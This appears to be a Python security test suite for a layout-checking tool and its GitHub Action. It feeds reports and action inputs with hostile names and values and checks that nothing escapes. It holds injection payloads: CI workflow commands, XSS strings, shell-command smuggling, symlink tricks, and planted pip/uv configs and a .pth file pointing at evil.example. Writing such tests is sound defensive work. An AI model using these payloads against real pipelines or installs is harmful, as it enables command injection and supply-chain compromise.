"""What a stranger's names do to reports, to the files that they are written to, and to the runner that reads them."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

from benchmarks.attacks.room import ROOT, Untried, environment, git, hostile, layoutproof, ran

NIGHT = (
    "marks_of_every_form",
    "names_that_are_no_text",
    "files_called_as_options",
    "inputs_with_line_ends",
    "reports_that_are_links",
    "what_lies_in_a_shared_folder",
)
FORMS = ("github", "html", "json", "junit", "markdown", "sarif", "text")
MARKS = (
    *("::error::x", "::set-output name=a::b", "##[error]x", "%0A::stop-commands::x", "<script>alert(1)</script>"),
    *("<img src=x onerror=alert(1)>", "]]><x/>", "&evil;", "@octocat", "https://evil.example/x", "www.evil.example"),
    *("[b](https://evil.example/y)", "a\u3164", "a\ufe0f\u034f", "GH-1 #12 owner/name#3", "mailto:a@octocat.example"),
    *("[a](javascript:alert(1))", "`|<b>|`", "a\u202eb\u2066c\u200bd", "a\x1b]8;;https://evil.example\x07b", "--><!--"),
    *(
        "${{ secrets.X }}",
        "$(id)",
        "' onmouseover='alert(1)",
        '" onmouseover="alert(1)',
        "a\n::error::b",
        "a\r\n##[x]b",
    ),
)
"""What the forms, terminals and build servers take for more than text."""


def marks_of_every_form(room: Path) -> str:
    """Layouts, claims, files and notes are called as the marks of every form: commands, tags, links, mentions."""
    work = room / "work"
    (work / "specs").mkdir(parents=True)
    layouts = dict.fromkeys(MARKS, "f32[3,5] strides (4,1)")
    checks = [{"injective": mark, "name": mark, "note": mark} for mark in MARKS]
    (work / "specs" / "a.yaml").write_text(json.dumps({"source": "x", "layouts": layouts, "checks": checks}))
    for name in ("::error::a.yaml", "<script>.yaml", "@octocat.yaml", "a\n::error::b.yaml", "\u202eb.yaml"):
        (work / "specs" / name).write_text("checks: [{injective: 'f32[3,5] strides (4,1)'}]\n")
    others = [f"--also={form}={room / form}" for form in FORMS]
    done = layoutproof(work, "check", "specs", "--no-trace", *others)
    if done.returncode not in (1, 2) or "Traceback" in done.stderr:
        return f"exit {done.returncode}: {done.stderr}"
    texts = {form: (room / form).read_bytes().decode() for form in FORMS} | {"shown": done.stdout}
    return "".join(f"{form}: {wrong}\n" for form, text in texts.items() for wrong in _wrong(form, text))


def names_that_are_no_text(room: Path) -> str:
    """Files are called by bytes that are no text, and YAML spells halves of characters: in both states of a gate."""
    work = _checkout(room)
    odd = os.fsdecode(b"specs/\xff\xfe.yaml")
    (work / odd).write_text("checks: [{injective: 'f32[3,5] strides (4,1)'}]\n")
    (work / "specs" / "b.yaml").write_text('checks: [{injective: "f32[8]", name: "\\ud800\\udfff"}]\n')
    git(work, "add", ".")
    git(work, "commit", "-qm", "two")
    (work / odd).rename(work / os.fsdecode(b"specs/\xfe\xff\n::error::.yaml"))
    others = [f"--also={form}={room / form}" for form in FORMS]
    said = ""
    for words in (("check", "specs"), ("gate", "specs", "--against", "HEAD"), ("gate", "--lock", "specs")):
        more = others if "--lock" not in words else []
        for jobs in ("1", "2"):
            done = layoutproof(work, *words, "--no-trace", *more, *(["--jobs", jobs] if more else []))
            if (
                done.returncode not in (1, 2, 3)
                or "Traceback" in done.stderr
                or "a bug in" in done.stdout + done.stderr
            ):
                said += f"{words}: exit {done.returncode}: {done.stderr[-600:]}\n"
            for form in FORMS if more else ():
                said += "".join(f"{words}: {form}: {x}\n" for x in _wrong(form, (room / form).read_bytes().decode()))
    return said


def inputs_with_line_ends(room: Path) -> str:
    """The action's inputs hold line ends, commands of the runner and of shells: nothing but its exit code is set."""
    work = _checkout(room)
    bad = ("\nevil=1", "\r\n::set-env name=a::b", "$(touch PWNED)", "`touch PWNED`", "; touch PWNED", "| touch PWNED")
    said = ""
    for name in ("AGAINST", "PATHS_TO_CHECK", "PATHS_TO_GATE", "MORE", "BASE"):
        given = {
            "AGAINST": "HEAD",
            "PATHS_TO_GATE": "",
            "PATHS_TO_CHECK": "",
            "MORE": "",
            "BASE": "",
            "DEFAULT": "main",
        }
        start = {"AGAINST": "HEAD", "BASE": "main"}.get(name, "specs")
        for text in bad if name == "AGAINST" else (bad[0] + bad[2],):
            if name == "MORE":
                given["PATHS_TO_GATE"] = "specs"
            done = _action(room, work, {**given, name: start + text})
            lines = [line for file in ("output", "env") for line in (room / file).read_text().splitlines()]
            if not all(re.fullmatch(r"exit-code=\d+", line) for line in lines) or "\n::set-env" in done.stdout:
                said += f"{name}={text!r}: {lines} {done.stdout}\n"
            if found := [path.name for path in room.rglob("PWNED")]:
                return said + f"{name}={text!r}: {found}"
    return said


def files_called_as_options(room: Path) -> str:
    """The action's lists of paths have a `*`, and the pull request has files that are called as options are."""
    work = _checkout(room)
    (work / "b.yaml").write_text("checks: [{injective: 'f32[7]'}]\n")
    before = (work / "b.yaml").read_text()
    for name in ("--output=b.yaml", "--also=sarif=b.yaml", "--svg=b.yaml"):
        (work / name).write_text("checks: [{injective: 'f32[3,5] strides (4,1)'}]\n")
    done = _action(room, work, {"PATHS_TO_CHECK": "*.yaml", "PATHS_TO_GATE": "*.yaml"})
    kept = (work / "b.yaml").read_text() == before
    return "" if kept and done.returncode == 1 else f"exit {done.returncode}, b.yaml kept: {kept}: {done.stderr}"


def reports_that_are_links(room: Path) -> str:
    """Where reports are written a pull request has links to files of the machine, to folders, and files of others."""
    work = _checkout(room)
    outside = room / "outside"
    (outside / "folder").mkdir(parents=True)
    (outside / "secret").write_text("mine\n")
    for name in ("out.sarif", "out.html", "layoutproof.lock", "out.svg"):
        (work / name).symlink_to(outside / "secret")
    done = [
        _action(room, work, {"PATHS_TO_CHECK": "specs", "SARIF": "out.sarif", "HTML": "out.html"}),
        layoutproof(work, "gate", "--lock", "specs", "--no-trace"),
        layoutproof(work, "check", "specs", "--svg", "out.svg", "--no-trace"),
    ]
    said = "".join(f"{one.args}: {one.stderr}\n" for one in done if "Traceback" in one.stderr)
    if (outside / "secret").read_text() != "mine\n":
        said += "a file of the machine was written through a link\n"
    (work / "folder.sarif").mkdir()
    for name in ("folder.sarif", "missing/out.sarif", "specs/a.yaml/out.sarif", "n" * 300):
        one = layoutproof(work, "check", "specs", "--no-trace", f"--also=sarif={name}")
        if one.returncode != 2 or len(one.stderr.splitlines()) != 1:
            said += f"{name[:40]}: exit {one.returncode}: {one.stderr[-600:]}\n"
    return said


def what_lies_in_a_shared_folder(room: Path) -> str:
    """The folder for temporary files is everybody's: whoever looks there may read or exchange what a run puts there."""
    work = _checkout(room)
    shared = room / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    more = {"TMPDIR": str(shared), "JOBLIB_TEMP_FOLDER": str(shared)}
    look = "import os, sys, time\nseen = set()\nwhile True:\n    for where, folders, files in os.walk(sys.argv[1]):\n"
    look += "        for name in folders + files:\n            path = os.path.join(where, name)\n            try:\n"
    look += (
        "                mode = os.lstat(path).st_mode & 0o777\n            except OSError:\n                continue\n"
    )
    look += (
        "            if where == sys.argv[1] and mode & 0o077 and path not in seen:\n                seen.add(path)\n"
    )
    look += "                print(oct(mode), path, flush=True)\n    time.sleep(0.001)\n"
    with subprocess.Popen([sys.executable, "-c", look, str(shared)], stdout=subprocess.PIPE, text=True) as watching:
        previous = os.umask(0)
        try:
            done = [
                layoutproof(work, "check", "specs", "--jobs", "2", more=more),
                layoutproof(work, "gate", "specs", "--against", "HEAD", "--compile-base", more=more),
            ]
        finally:
            os.umask(previous)
            watching.terminate()
        seen = watching.communicate()[0]
    left = [path.name for path in shared.iterdir()]
    said = "".join(f"exit {one.returncode}: {one.stderr[-600:]}\n" for one in done if one.returncode not in (0, 1, 3))
    return said + seen + (f"left behind: {left}\n" if left else "")


def settings_of_other_tools(room: Path) -> str:
    """A pull request brings settings of pip, uv, Python and pytest, and the action's install step runs there."""
    import yaml

    work = hostile(room / "work", ["conftest", "sitecustomize", "setup"])
    for name in ("pip.conf", "pip.ini", "setup.cfg", "tox.ini", ".pydistutils.cfg", "pyvenv.cfg", ".pip/pip.conf"):
        (work / name).parent.mkdir(exist_ok=True)
        (work / name).write_text("[global]\nindex-url = http://evil.example/\nno-index = false\n[install]\nuser = 1\n")
    (work / "uv.toml").write_text('index-url = "http://evil.example/"\n')
    (work / ".netrc").write_text("machine evil.example login a password b\n")
    (work / "evil.pth").write_text(f"import os; open({str(room / 'PWNED')!r}, 'w').write('pth')\n")
    (work / "pyproject.toml").write_text('[build-system]\nrequires = ["evil"]\nbuild-backend = "evil"\n')
    steps = yaml.safe_load((ROOT / "action.yml").read_text())["runs"]["steps"]
    (step,) = [step for step in steps if "pip" in str(step.get("run", ""))]
    if step.get("working-directory") != "${{ runner.temp }}":
        return "the step runs in the folder of the pull request"
    binaries = room / "bin"
    binaries.mkdir()
    # what the step would install is left out: its pip says by what it was set up
    (binaries / "python").write_text(f"#!/bin/sh\nexec {sys.executable} -P -m pip config list\n")
    (binaries / "python").chmod(0o755)
    more = {"VERSION": "", "PACKAGES": "", "CHECKOUT": str(ROOT), "PYTHONSAFEPATH": "1"}
    clean = environment({**more, "PATH": f"{binaries}{os.pathsep}{os.environ['PATH']}"})
    clean.pop("PYTHONPATH")
    done = subprocess.run(["bash", "-e", "-c", step["run"]], cwd=work, env=clean, capture_output=True, text=True)
    told = "evil.example" in done.stdout + done.stderr
    return (
        ran(work)
        or (f"pip is set up by the pull request: {done.stdout}" if told else "")
        or ("" if done.returncode == 0 else f"exit {done.returncode}: {done.stderr}")
    )


class _Page(HTMLParser):
    """What a browser would run, or load from elsewhere, and the text that is no code."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.open: list[str] = []
        self.tags: set[str] = set()
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Each tag."""
        self.open.append(tag)
        self.tags.add(tag)
        for name, value in attrs:
            if name.startswith("on") or re.match(r"\s*(javascript:|https?://evil)", value or "", re.I):
                self.found.append(f"<{tag} {name}={value}>")

    def handle_endtag(self, tag: str) -> None:
        """Of the last one that is open."""
        if tag in self.open:
            del self.open[len(self.open) - 1 - self.open[::-1].index(tag) :]

    def handle_data(self, data: str) -> None:
        """Text: of a script it runs, in code it stays as it is."""
        if "script" in self.open and "alert(1)" in data:
            self.found.append(data[:80])
        if "code" not in self.open:
            self.text += data


def _wrong(form: str, text: str) -> list[str]:
    """What in a report is more than its text."""
    unseen = "\u202e\u2066\u200b\x1b\x07\u3164\ufe0f\u034f"
    found = [f"{ord(mark):x} is there" for mark in unseen if mark in text]
    if form == "github":
        lines = [line for line in text.splitlines() if re.match(r"\s*(::|##\[)", line)]
        known = r"::(error|warning|notice)( file=[^:]*)?( title=[^:]*)?::"
        found += [line for line in lines if not re.match(known, line) or line.startswith("::error::x")]
    elif form == "shown":
        found += [line for line in text.splitlines() if re.match(r"\s*(::|##\[)", line)]
    elif form == "html":
        page = _Page()
        page.feed(text)
        found += page.found
    elif form == "junit":
        ElementTree.fromstring(text)
    elif form == "json":
        json.loads(text)
    elif form == "sarif":
        # in a message it is a link, by section 3.11.6
        found += re.findall(
            r"\[[^\]]*\]\([^)]*\)", str([one["message"] for one in json.loads(text)["runs"][0]["results"]])
        )
    elif form == "markdown":
        from markdown_it import MarkdownIt

        page = _Page()
        page.feed(MarkdownIt("commonmark").enable("table").render(text))
        found += [*page.found, *({"script", "img", "x", "b"} & page.tags)]
        # GitHub makes links of such words in what was rendered, unless something stands within them
        found += re.findall(r"(?<!\w)@octocat|https?://evil\S*|www\.evil\S*", page.text)
    return found


def _checkout(room: Path) -> Path:
    work = room / "work"
    (work / "specs").mkdir(parents=True)
    (work / "specs" / "a.yaml").write_text("source: x\nchecks: [{injective: 'f32[3,5]'}]\n")
    git(work, "init", "-q", "-b", "main")
    git(work, "add", ".")
    git(work, "commit", "-qm", "one")
    git(work, "remote", "add", "origin", str(work))
    return work


def _action(room: Path, work: Path, given: dict[str, str]) -> subprocess.CompletedProcess[str]:
    if os.name != "posix":
        raise Untried("no bash here")
    binaries = room / "bin"
    if not binaries.exists():
        binaries.mkdir()
        (binaries / "python").write_text(f'#!/bin/sh\nexec {sys.executable} "$@"\n')
        (binaries / "python").chmod(0o755)
    for name in ("output", "env", "summary"):
        (room / name).write_text("")
    base = {"AGAINST": "HEAD", "BASE": "", "DEFAULT": "main", "PATHS_TO_GATE": "", "PATHS_TO_CHECK": "", "MORE": ""}
    files = {"GITHUB_OUTPUT": "output", "GITHUB_ENV": "env", "GITHUB_STEP_SUMMARY": "summary"}
    more = {**base, "FORK": "true", **{name: str(room / file) for name, file in files.items()}, **given}
    more["PATH"] = f"{binaries}{os.pathsep}{os.environ['PATH']}"
    command = [str(ROOT / "action" / "run")]
    return subprocess.run(
        command, cwd=work, env=environment(more), capture_output=True, text=True, errors="replace", timeout=600
    )
